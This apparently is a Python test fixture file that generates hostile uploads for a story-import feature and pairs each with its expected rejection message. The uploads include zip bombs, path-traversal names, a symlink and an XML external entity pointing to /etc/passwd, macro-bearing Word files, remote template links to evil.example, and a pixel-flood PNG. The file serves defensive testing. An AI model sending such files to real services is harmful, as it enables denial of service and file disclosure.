"""Files that somebody sends to do harm, each made in a few lines, with what must come of it."""

import json
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from email.message import EmailMessage
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from docx import Document

from sent import filled_template
from showcase.importing.draft import Sent


@dataclass(frozen=True)
class Sending:
    """A file, and words of the sentence that refuses it; `taken` where it is taken after all."""

    make: Callable[[], Sent]
    says: str
    taken: bool = False


def zipped(name: str = "case.zip", **files: bytes) -> Sent:
    """Return a zip file; in names `__` is a slash and `_dot_` a dot."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as packet:
        for file, content in files.items():
            packet.writestr(file.replace("__", "/").replace("_dot_", "."), content)
    return Sent(name, buffer.getvalue())


def named(*names: str) -> Sent:
    """Return a zip file whose files have just these names."""
    buffer = BytesIO()
    with ZipFile(buffer, "w") as packet:
        for name in names:
            info = ZipInfo("x" * len(name))
            info.filename = name
            packet.writestr(info, b"---\ntitle: A\n---\n")
    return Sent("case.zip", buffer.getvalue())


def linked() -> Sent:
    """Return a zip file with a symbolic link to a file of the computer."""
    info = ZipInfo("case/index.md")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    buffer = BytesIO()
    with ZipFile(buffer, "w") as packet:
        packet.writestr(info, "/etc/passwd")
    return Sent("case.zip", buffer.getvalue())


def locked() -> Sent:
    """Return a zip file that says that it has a password."""
    content = bytearray(named("case/index.md").content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(mark) + offset] |= 1
    return Sent("case.zip", bytes(content))


def lying() -> Sent:
    """Return a zip file with a file that is larger than the packet says."""
    content = zipped(case__index_dot_md=b"a" * 900_000).content
    return Sent("case.zip", content.replace(struct.pack("<I", 900_000), struct.pack("<I", 10)))


def bomb() -> Sent:
    """Return a small zip file with a large file of nothing."""
    return zipped(case__index_dot_md=bytes(14_000_000))


def many_bombs() -> Sent:
    """Return a zip file of many files that are too much together."""
    files = {f"case__{number}_dot_jpg": bytes(9_000_000) for number in range(9)}
    return zipped("case.zip", **files)


def word(
    old: bytes = b"", new: bytes = b"", part: str = "word/document.xml", **more: bytes
) -> Sent:
    """Return a sound Word file with a text in one part changed, and parts added."""
    document = Document()
    document.add_paragraph("A story of ours")
    document.add_paragraph("We met on Mondays.")
    buffer, found = BytesIO(), BytesIO()
    document.save(buffer)
    with ZipFile(buffer) as before, ZipFile(found, "w", ZIP_DEFLATED) as after:
        for name in before.namelist():
            content = before.read(name)
            assert name != part or old in content
            after.writestr(name, content.replace(old, new, 1) if name == part else content)
        for name, content in more.items():
            after.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return Sent("story.docx", found.getvalue())


def related(kind: str, target: str) -> Sent:
    """Return a Word file with a relation to a place elsewhere."""
    line = (
        f'<Relationship Id="evil" Type="http://schemas.openxmlformats.org/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return word(b"</Relationships>", line.encode(), "word/_rels/document.xml.rels")


ENTITIES = b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document '


def utf16() -> Sent:
    """Return a Word file whose text is in an encoding that hides what it declares."""
    with ZipFile(BytesIO(word().content)) as packet:
        text = packet.read("word/document.xml").decode()
    hidden = text.replace("UTF-8", "UTF-16").encode("utf-16")
    return word(text.encode(), hidden)


def deep() -> Sent:
    """Return a Word file that nests tables a thousand times."""
    return word(b"<w:p>", b"<w:tbl><w:tr><w:tc>" * 1000 + b"<w:p>")


def long_word() -> Sent:
    """Return a Word file with millions of letters."""
    return word(b"<w:p>", b"<w:p><w:r><w:t>" + b"word " * 700_000 + b"</w:t></w:r></w:p><w:p>")


def huge_png() -> bytes:
    """Return a PNG of 900 million pixels in a few hundred kilobytes."""

    def chunk(name: bytes, content: bytes) -> bytes:
        whole = name + content
        return struct.pack(">I", len(content)) + whole + struct.pack(">I", zlib.crc32(whole))

    header = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    packed = zlib.compress(bytes(3751 * 30_000), 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")
    )


ENTRY = b"---\ntitle: A story of ours\n---\n\n## The situation\n\nWe met.\n"


def letter(**files: bytes) -> Sent:
    """Return an e-mail with files."""
    found = EmailMessage()
    found["Subject"] = "A story"
    found.set_content("Here it is.")
    for name, content in files.items():
        found.add_attachment(
            content, maintype="application", subtype="octet-stream",
            filename=name.replace("_dot_", "."),
        )  # fmt: skip
    return Sent("letter.eml", found.as_bytes())


def many_parts() -> Sent:
    """Return an e-mail with hundreds of files."""
    return letter(**{f"a{number}_dot_jpg": b"x" for number in range(300)})


def nested_letter() -> Sent:
    """Return an e-mail whose parts nest hundreds of times."""
    lines = [
        f'Content-Type: multipart/mixed; boundary="b{number}"\n\n--b{number}'
        for number in range(400)
    ]
    return Sent("letter.eml", "\n".join(lines).encode())


def approved() -> Sent:
    """Return an entry that says that it was reviewed, and excuses itself."""
    facts = (
        "title: A\nstatus: published\nreview: {by: editor, on: 2026-01-01, next: 2030-01-01}\n"
        "allow: {child-named: because}\n"
        "cleared: [{check: child-named, mark: 0c1d2e3f, by: editor, reason: ok}]\n"
    )
    return Sent("index.md", f"---\n{facts}---\n\n## The situation\n\nWe met.\n".encode())


def strange(name: str, content: bytes = b"x") -> Callable[[], Sent]:
    """Return a maker of a file of another kind."""
    return lambda: Sent(name, content)


OLE = "officeDocument/2006/relationships"
MACRO = "has a program (macro)"
SENDINGS = {
    "zip bomb": Sending(bomb, "far more than its size"),
    "many zip bombs": Sending(many_bombs, "larger than we accept"),
    "file larger than it says": Sending(lying, "damaged"),
    "zip of thousands": Sending(lambda: named(*(f"{n}.jpg" for n in range(900))), "more than 200"),
    "way out of the zip": Sending(lambda: named("../../index.md"), "leads out of it"),
    "way out inside": Sending(lambda: named("case/../../index.md"), "leads out of it"),
    "way out with backslashes": Sending(lambda: named("..\\index.md"), "leads out of it"),
    "absolute name": Sending(lambda: named("/etc/cron.d/index.md"), "leads out of it"),
    "drive of Windows": Sending(lambda: named("C:\\index.md"), "leads out of it"),
    "link in a zip": Sending(linked, "link or special file"),
    "password on a zip": Sending(locked, "has a password"),
    "same name twice": Sending(lambda: named("index.md", "INDEX.md"), "two files of the same name"),
    "zip in a zip": Sending(lambda: zipped(inner_dot_zip=bomb().content), "no text in the zip"),
    "two texts": Sending(lambda: zipped(a_dot_md=ENTRY, b_dot_md=ENTRY), "more than one text"),
    "half a zip": Sending(lambda: Sent("a.zip", named("index.md").content[:60]), "damaged"),
    "no zip at all": Sending(strange("a.zip"), "damaged"),
    "macro": Sending(lambda: word(word__vbaProject_dot_bin=b"x"), MACRO),
    "macro by its type": Sending(
        lambda: word(b"wordprocessingml.document.main", b"ms-word.document.macroEnabled.main",
                     "[Content_Types].xml"), MACRO),
    "macro by its name": Sending(strange("story.docm"), "programs (macros) is not taken"),
    "control that runs": Sending(lambda: word(word__activeX__activeX1_dot_xml=b"<a/>"), MACRO),
    "template from elsewhere": Sending(
        lambda: related(f"{OLE}/attachedTemplate", "http://evil.example/a.dotm"), "from elsewhere"),
    "picture from elsewhere": Sending(
        lambda: related(f"{OLE}/image", "http://evil.example/a.png"), "from elsewhere"),
    "picture of the computer": Sending(
        lambda: related(f"{OLE}/image", "file:///etc/passwd"), "from elsewhere"),
    "object from elsewhere": Sending(
        lambda: related(f"{OLE}/oleObject", "http://evil.example/a"), "from elsewhere"),
    "entities that grow": Sending(lambda: word(b"<w:document ", ENTITIES), "shortcuts"),
    "entity in another part": Sending(
        lambda: word(b"<w:styles ", b'<!DOCTYPE s SYSTEM "file:///etc/passwd"><w:styles ',
                     "word/styles.xml"), "shortcuts"),
    "text in another encoding": Sending(utf16, "damaged"),
    "nested a thousand times": Sending(deep, "nested deeper"),
    "millions of letters": Sending(long_word, "more text than any story"),
    "broken document": Sending(lambda: word(b"</w:body>", b""), "damaged"),
    "password on a Word file": Sending(
        strange("story.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)), "has a password"),
    "zip that is no Word file": Sending(
        lambda: Sent("a.docx", named("index.md").content), "not a Word file"),
    "old Word": Sending(strange("story.doc"), "save it as .docx"),
    "PDF": Sending(strange("story.pdf"), "save it as .docx"),
    "program": Sending(strange("story.exe"), "This is not"),
    "no ending": Sending(strange("story"), "This is not"),
    "huge photo": Sending(
        lambda: zipped(case__index_dot_md=ENTRY, case__a_dot_png=huge_png()),
        "was left out.", taken=True),
    "photo that is none": Sending(
        lambda: zipped(case__index_dot_md=ENTRY, case__a_dot_jpg=b"<script>"),
        "was left out.", taken=True),
    "drawing with a script": Sending(
        lambda: zipped(case__index_dot_md=ENTRY, case__a_dot_svg=b"<svg onload='x'/>"),
        "was left out", taken=True),
    "program beside the story": Sending(
        lambda: zipped(case__index_dot_md=ENTRY, case__a_dot_exe=b"MZ"),
        "was left out", taken=True),
    "macro in an e-mail": Sending(lambda: letter(a_dot_docm=b"x"), "programs (macros)"),
    "zip bomb in an e-mail": Sending(lambda: letter(a_dot_zip=bomb().content), "far more than"),
    "two stories in an e-mail": Sending(
        lambda: letter(a_dot_docx=filled_template(), b_dot_md=ENTRY), "more than one text"),
    "hundreds of files in an e-mail": Sending(many_parts, "more files in it"),
    "e-mail nested hundreds of times": Sending(nested_letter, "", taken=False),
    "empty e-mail": Sending(strange("a.eml", b"Subject: x\n\n"), "no words"),
    "issue that is a list": Sending(strange("a.json", b"[1, 2]"), "not an issue"),
    "issue with a number for words": Sending(
        strange("a.json", json.dumps({"title": "A", "body": 7}).encode()), "not an issue"),
    "issue nested a million times": Sending(strange("a.json", b"[" * 900_000), "not an issue"),
    "issue of megabytes": Sending(strange("a.json", b" " * 2_000_000), "longer than any form"),
    "text of megabytes": Sending(strange("a.md", b"a " * 500_000), "longer than"),
    "text that is none": Sending(strange("a.md", bytes(range(256))), "UTF-8"),
    "empty text": Sending(strange("a.md", b" \n"), "no words"),
    "facts with shortcuts": Sending(
        strange("a.md", b"---\na: &a [x]\nb: *a\n---\n"), "begins with one of the signs"),
    "facts that are broken": Sending(strange("a.md", b"---\na: [x\n---\n"), "Line"),
    "entry that approves itself": Sending(approved, "", taken=True),
}  # fmt: skip
